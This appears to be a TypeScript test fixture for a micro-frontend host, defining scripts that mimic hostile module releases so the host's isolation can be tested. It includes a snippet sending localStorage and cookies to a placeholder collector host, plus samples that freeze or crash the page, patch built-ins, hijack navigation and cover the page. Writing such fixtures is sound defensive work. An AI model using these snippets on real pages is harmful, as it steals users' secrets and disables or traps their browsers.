/** While this global is true, a hostile release behaves well. */
export const CALM_GLOBAL = '__salonCalm';

/** No server has this name, and the page's policy allows no request to it. */
export const FOREIGN_ORIGIN = 'https://collector.invalid';

export const unlessCalm = (act: string) => `if (!globalThis.${CALM_GLOBAL}) { ${act} }`;

/** The timer starts at the mount, and runs again and again until the page is no longer calm. */
const TIMER_MS = 500;

const loop = 'for (;;) {}';

/** What the code of a hostile release does, as the text of a script. */
export const ACTS = {
  loop: unlessCalm(loop),
  loopOfPromises: unlessCalm('(function again() { Promise.resolve().then(again); })();'),
  /** Ends in a crash of the renderer process. */
  hogMemory: unlessCalm(
    'for (var kept = globalThis.kept = []; ; ) kept.push(new Array(1e5).fill(Math.random()));',
  ),
  throwError: unlessCalm(`throw new Error('thrown on purpose');`),
  neverEnd: unlessCalm('return new Promise(function () {});'),
  rejectPromise: unlessCalm(`Promise.reject(new Error('rejected on purpose'));`),
  rejectText: unlessCalm(`Promise.reject('rejected on purpose');`),
  sendSecrets: unlessCalm(`
    var secrets = '${FOREIGN_ORIGIN}/?' + encodeURIComponent(JSON.stringify(localStorage) + document.cookie);
    fetch(secrets, { mode: 'no-cors' }).catch(function () {});
    navigator.sendBeacon(secrets);
    new Image().src = secrets;`),
  patchBuiltIns: unlessCalm(`
    globalThis.fetch = function () { return new Promise(function () {}); };
    var filter = Array.prototype.filter;
    Array.prototype.filter = function () { return filter.apply(this, arguments); };`),
  /** The person can no longer leave the module. */
  stealRoutes: unlessCalm(`
    if (!globalThis.stolen) {
      globalThis.stolen = true;
      var home = location.pathname, pushState = history.pushState;
      history.pushState = function (state, title) { return pushState.call(history, state, title, home); };
    }`),
  leaveGlobal: unlessCalm('globalThis.forgotten = props;'),
  leaveNodes: unlessCalm(`
    document.head.appendChild(document.createElement('style')).textContent = 'aside { color: red }';
    document.body.appendChild(document.createElement('aside')).textContent = 'forgotten';`),
  /** The lowest part of the page can no longer be pressed. */
  coverPage: unlessCalm(`
    document.body.appendChild(document.createElement('aside')).style.cssText = 'position: fixed; inset: 90% 0 0';`),
  turnPage: unlessCalm(`document.documentElement.dir = 'ltr';`),
};

export const inTimer = (act: string): string =>
  `setTimeout(function again() { ${act} setTimeout(again, ${TIMER_MS}); }, ${TIMER_MS});`;

export const inKeyListener = (act: string): string =>
  `document.addEventListener('keydown', function () { ${act} });`;
